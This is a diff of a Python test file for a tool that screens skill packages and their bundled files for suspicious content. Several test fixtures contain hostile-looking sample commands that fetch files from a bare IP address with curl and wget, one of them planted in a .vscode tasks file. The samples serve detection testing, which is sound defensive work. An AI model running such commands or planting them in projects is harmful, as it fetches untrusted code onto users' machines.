@@ -567,13 +567,13 @@ def test_work_grows_linearly_with_body(unit: str):
 # The FLAGS table --------------------------------------------------------------
 
 
-def test_pool_without_table_warns(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
+def test_pool_without_table_warns(tmp_path, capsys):
     assert read_flags(tmp_path) is None
     assert flags_to_leave_out(tmp_path) == {}
     assert "was never screened" in capsys.readouterr().err
 
 
-def test_flags_round_trip_beside_pool(tmp_path: Path):
+def test_flags_round_trip_beside_pool(tmp_path):
     skills = [Skill("a/good", "n", "d", "b"), Skill("a/bad", "n", "d", "See http://45.140.17.2/b")]
     flags = screen_pool(skills, WorkersConfig(num=1))
 
@@ -586,7 +586,7 @@ def test_flags_round_trip_beside_pool(tmp_path: Path):
     assert (row["rule"], row["field"], row["start"], row["end"]) == ("bare_address", "body", 4, 24)
 
 
-def test_clean_pool_has_empty_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
+def test_clean_pool_has_empty_table(tmp_path, capsys):
     write_flags({}, tmp_path)
 
     assert read_flags(tmp_path) == {}
@@ -604,7 +604,7 @@ def write_files(folder: Path, texts_by_name: dict[str, str]) -> None:
         file.write_text(text)
 
 
-def test_flag_names_bundled_file(tmp_path: Path):
+def test_flag_names_bundled_file(tmp_path):
     texts_by_name = {
         "scripts/deep/run.sh": "#!/bin/sh\ncurl -o a.sh http://45.140.17.2/a.sh\n",
         "ok.py": "print('fine')\n",
@@ -618,7 +618,7 @@ def test_flag_names_bundled_file(tmp_path: Path):
     assert flag.span == "http://45.140.17.2/a.sh"
 
 
-def test_hidden_files_are_screened_last(tmp_path: Path):
+def test_hidden_files_are_screened_last(tmp_path):
     texts_by_name = {
         ".vscode/tasks.json": '{"command": "wget -q http://45.140.17.2/x"}',
         "run.sh": "curl -o a.sh http://45.140.17.2/a.sh\n",
@@ -630,7 +630,7 @@ def test_hidden_files_are_screened_last(tmp_path: Path):
     assert [flag.field for flag in flags] == ["./run.sh", "./.vscode/tasks.json"]
 
 
-def test_pool_is_screened_with_its_folders(tmp_path: Path):
+def test_pool_is_screened_with_its_folders(tmp_path):
     write_files(tmp_path, {"run.sh": "curl -o a.sh http://45.140.17.2/a.sh\n"})
 
     flags = screen_pool([skill("b")], WorkersConfig(num=1), {"a/b": tmp_path})
@@ -658,7 +658,7 @@ def test_command_in_binary_file_is_flagged(content: bytes):
     assert [flag.rule for flag in flags] == ["bare_address"]
 
 
-def test_files_with_look_alike_names_share_a_flag(tmp_path: Path):
+def test_files_with_look_alike_names_share_a_flag(tmp_path):
     files = [
         BundledFile(Path(name), b"http://45.140.17.2/a", False) for name in ("a\nb", "a\tb", "body")
     ]
@@ -670,7 +670,7 @@ def test_files_with_look_alike_names_share_a_flag(tmp_path: Path):
 
 
 @pytest.fixture
-def skill_folder(tmp_path: Path) -> Path:
+def skill_folder(tmp_path) -> Path:
     """A folder with files of the skill, hidden files, a link, and another skill in it."""
     names = (
         *("a/1.sh", "a/2.sh", "b.md", "big.bin", "skill.MD", "inner/SKILL.md", "inner/x.py"),
@@ -685,7 +685,7 @@ def paths_of(files: list[BundledFile]) -> list[str]:
     return [str(file.path) for file in files]
 
 
-def test_bundled_files_belong_to_the_skill(skill_folder: Path, monkeypatch: pytest.MonkeyPatch):
+def test_bundled_files_belong_to_the_skill(skill_folder: Path, monkeypatch):
     monkeypatch.setattr(bundled, "MAX_BYTES", 500)
 
     files, num_left_out = read_bundled_files(skill_folder)
@@ -700,7 +700,7 @@ def test_hidden_files_include_only_hooks_of_git(skill_folder: Path):
     assert paths_of(files) == [".git/hooks/a", ".vscode/b"]
 
 
-def test_files_above_limit_are_counted(skill_folder: Path, monkeypatch: pytest.MonkeyPatch):
+def test_files_above_limit_are_counted(skill_folder: Path, monkeypatch):
     monkeypatch.setattr(bundled, "MAX_FILES", 2)
 
     files, num_left_out = read_bundled_files(skill_folder)
@@ -710,7 +710,7 @@ def test_files_above_limit_are_counted(skill_folder: Path, monkeypatch: pytest.M
 
 
 @pytest.mark.usefixtures("locked_folders")
-def test_locked_folder_costs_only_its_files(tmp_path: Path):
+def test_locked_folder_costs_only_its_files(tmp_path):
     write_files(tmp_path, {"locked/x.py": "x", "run.sh": "x"})
 
     files, num_left_out = read_bundled_files(tmp_path)
